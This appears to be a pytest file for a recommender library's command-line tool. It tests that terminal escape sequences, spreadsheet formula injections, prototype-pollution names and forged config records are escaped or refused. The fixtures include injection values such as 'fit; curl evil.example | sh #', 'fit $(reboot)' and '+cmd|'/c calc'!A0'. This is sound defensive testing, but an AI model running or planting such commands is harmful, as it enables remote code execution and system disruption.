"""Ids, titles, file names and records made to be obeyed: by a terminal, a spreadsheet, a page, or whoever pastes."""

import csv
import json
import re
import shutil
import subprocess
from importlib import resources
from pathlib import Path

import numpy as np
import pytest
import scipy.sparse as sp

from fairmf import IALS, Interactions
from fairmf.cli.app import VERBS
from fairmf.cli.errors import PROBLEM
from fairmf.text import INVISIBLE, visible, whole

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eabc\r\x08"
ITEMS = [f"item{ESCAPES}{k}" for k in range(6)] + ["=1+1", "+cmd|'/c calc'!A0", "-2", "@SUM(1)", "'=kept", "'plain"]
ITEMS += ["\t=tab", "-2.5e3", "--x", "line\n=break"] + [f"plain {k}" for k in range(10)]
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    random = np.random.default_rng(0)
    matrix = sp.csr_array(random.random((12, len(ITEMS))) < 0.3)
    users = [f"=user{k}{ESCAPES}" for k in range(12)]
    path = tmp_path_factory.mktemp("hostile") / f"[red]{'model'}.fairmf"
    IALS(factors=4, epochs=1).fit(Interactions.from_csr(matrix, user_ids=users, item_ids=ITEMS)).save(path)
    return path


def lists(fairmf, model, *flags):
    done = fairmf("recommend", model, "-o", "lists.csv", "--top", len(ITEMS), "--repeat", *flags)
    assert done.code == 0, done.err
    with Path("lists.csv").open(newline="", encoding="utf-8") as file:
        return done, list(csv.DictReader(file))


def test_no_terminal_obeys_what_ids_say(fairmf, model):
    done = fairmf("recommend", model, f"=user3{ESCAPES}", "--top", len(ITEMS), "--repeat")
    assert done.code == 0
    assert "\\x1b]0;owned\\x07" in done.out
    assert "line\\n=break" in done.out, "no id can pretend to be a line"
    done = fairmf("recommend", model, f"nobody{ESCAPES}", "--debug")
    assert done.code == PROBLEM
    unknown = fairmf("fit", f"no such file {ESCAPES}", "-o", "x.fairmf")
    for printed in (done, unknown):
        assert "\\x1b" in printed.err
    for printed in (done, unknown, fairmf("recommend", model, f"=user3{ESCAPES}")):
        assert not OBEYED.search(printed.out + printed.err)
    as_json = fairmf("recommend", model, f"=user3{ESCAPES}", "--json")
    assert not OBEYED.search(as_json.out)
    assert as_json.json["lists"][0]["user"] == f"=user3{ESCAPES}"


def test_no_spreadsheet_runs_what_ids_say(fairmf, model):
    _, rows = lists(fairmf, model)
    found = {row["item"] for row in rows}
    assert {"'=1+1", "'+cmd|'/c calc'!A0", "'@SUM(1)", "''=kept", "'plain", "'\t=tab", "'--x"} <= found
    assert {"-2", "-2.5e3", "plain 1", "line\n=break"} <= found, "numbers and plain text are as they were"
    assert all(row["user"].startswith("'=user") for row in rows)
    back = {re.sub("^'('*[=+\\-@\t\r\n])", "\\1", item) for item in found}
    assert back == set(ITEMS), "taking one ' away gives every id back"
    _, rows = lists(fairmf, model, "--no-safe-csv")
    assert {row["item"] for row in rows} == set(ITEMS)
    assert all(float(row["score"]) == float(row["score"]) for row in rows if row["score"])


def test_rerank_has_safe_lists_too(fairmf, model):
    for flags, mark in (((), "'="), (("--no-safe-csv",), "=")):
        assert fairmf("rerank", model, "-o", "lists.csv", "--top", 3, *flags).code == 0
        with Path("lists.csv").open(newline="", encoding="utf-8") as file:
            assert all(row["user"].startswith(mark) for row in csv.DictReader(file))


def test_what_is_visible():
    assert visible("a\x1b[1m\x7f\x85\ud800é\n\t") == "a\\x1b[1m\\x7f\\x85\\ud800é\n\t"
    assert visible("a\nb\tc", one_line=True) == "a\\nb\\tc"
    assert whole("a\ud800b\udfffé😀") == "a\ufffdb\ufffdé😀"
    assert not any(INVISIBLE.search(c) for c in "é😀漢\u200d\u00a0a\n\t")


RECORD = 'fairmf_record = 1\nverb = "fit"\n[settings]\nfactors = 4\n'
RECORDS = {
    "of a later version": (RECORD.replace("= 1", "= 99"), "reads version 1"),
    "of no version": (RECORD.replace("= 1", '= "1"'), "reads version 1"),
    "of true": (RECORD.replace("= 1", "= true"), "reads version 1"),
    "of a command": (RECORD.replace('"fit"', '"fit; curl evil.example | sh #"'), "is not a verb"),
    "of a command in two words": (RECORD.replace('"fit"', '"fit $(reboot)"'), "is not a verb"),
    "of no verb": (RECORD.replace('"fit"', "7"), "is not a verb"),
    "of settings that are no table": ('fairmf_record = 1\nverb = "split"\nsettings = 3\n', "not a table"),
    "nested deeply": ("a = " + "[" * 5000 + "]" * 5000, "nested too deeply"),
    "nested in tables": ("a = " + "{a = " * 5000 + "1" + "}" * 5000, "nested too deeply"),
}
JSON_RECORDS = {
    "a key twice": ('{"heldout": 5, "heldout": 6}', "a key appears twice"),
    "nested deeply": ('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    "digits without end": ('{"heldout": ' + "9" * 100_000 + "}", "more than 1000 digits"),
    "not a number": ('{"heldout": NaN}', "not a number of JSON"),
}


@pytest.mark.parametrize("name", [*RECORDS, *(f"{name}, JSON" for name in JSON_RECORDS)])
def test_forged_records_are_refused_and_give_no_command_to_paste(name, fairmf):
    text, said = RECORDS.get(name) or JSON_RECORDS[name.removesuffix(", JSON")]
    path = "record.json" if name.endswith("JSON") else "record.toml"
    Path(path).write_text(text)
    done = fairmf("split", "events.csv", "-o", "split", "--config", path)
    assert done.code == PROBLEM
    assert said in done.err
    assert "fairmf fit;" not in done.err.split("hint:")[-1]
    assert len(done.err) < 500


def test_the_command_to_paste_names_a_verb_there_is_and_quotes_the_file(fairmf):
    Path("it's; reboot.toml").write_text(RECORD)
    done = fairmf("split", "events.csv", "-o", "split", "--config", "it's; reboot.toml")
    assert "hint: fairmf fit --config 'it'\"'\"'s; reboot.toml'" in done.err
    assert "fit" in VERBS


def test_configurations_that_are_no_files_or_far_too_large(fairmf, tmp_path):
    (tmp_path / "large.toml").write_bytes(b"#" * (2 << 20))
    for path in (tmp_path, tmp_path / "large.toml"):
        done = fairmf("split", "events.csv", "-o", "split", "--config", path)
        assert done.code == PROBLEM
        assert len(done.err) < 500


def test_halves_of_characters_are_written_as_replacement_characters(fairmf, made):
    done = fairmf("report", made / "model.fairmf", made / "split", "-o", "report.html", "--title", "half \ud800 of one")
    assert done.code == 0, done.err
    assert "half \ufffd of one" in Path("report.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["__proto__", "hasOwnProperty", "constructor"])
def test_the_page_gives_no_name_of_a_model_to_the_charts_as_it_is(name, tmp_path):
    """ECharts keeps series as properties by name: `withKeys` is the one way to it, and no script reads names raw."""
    scripts = {path.stem: path.read_text() for path in (resources.files("fairmf.reports") / "assets/scripts").iterdir()}
    assert "setOption(withKeys(" in scripts["charts"]
    assert sum(text.count("setOption(") for text in scripts.values()) == 1
    assert sum(text.count("seriesName") for text in scripts.values()) == 1, "nameOf alone takes the key off"
    node = shutil.which("node")
    if node is None:
        return
    library = resources.files("fairmf.reports") / "assets/echarts/echarts.common.min.js"
    tail = scripts["charts"][scripts["charts"].index("const keyed") :]
    (tmp_path / "try.js").write_text(f"""
        const echarts = require({json.dumps(str(library))});
        {tail}
        const name = {json.dumps(name)}, before = Object.getOwnPropertyNames(Object.prototype).join();
        const drawn = echarts.init(null, null, {{ renderer: "svg", ssr: true, width: 600, height: 400 }});
        const series = [{{ type: "line", name, data: [[1, 2], [2, 3]] }}];
        drawn.setOption(withKeys({{ xAxis: {{}}, yAxis: {{}}, legend: {{ data: [name] }}, series }}));
        drawn.dispatchAction({{ type: "legendToggleSelect", name: keyed(name) }});
        const shown = drawn.renderToSVGString().includes(name);
        console.log(shown && Object.getOwnPropertyNames(Object.prototype).join() === before);
        process.exit(0);
    """)
    told = subprocess.run([node, "try.js"], cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
    assert told.stdout.strip() == "true", told.stderr[-300:]
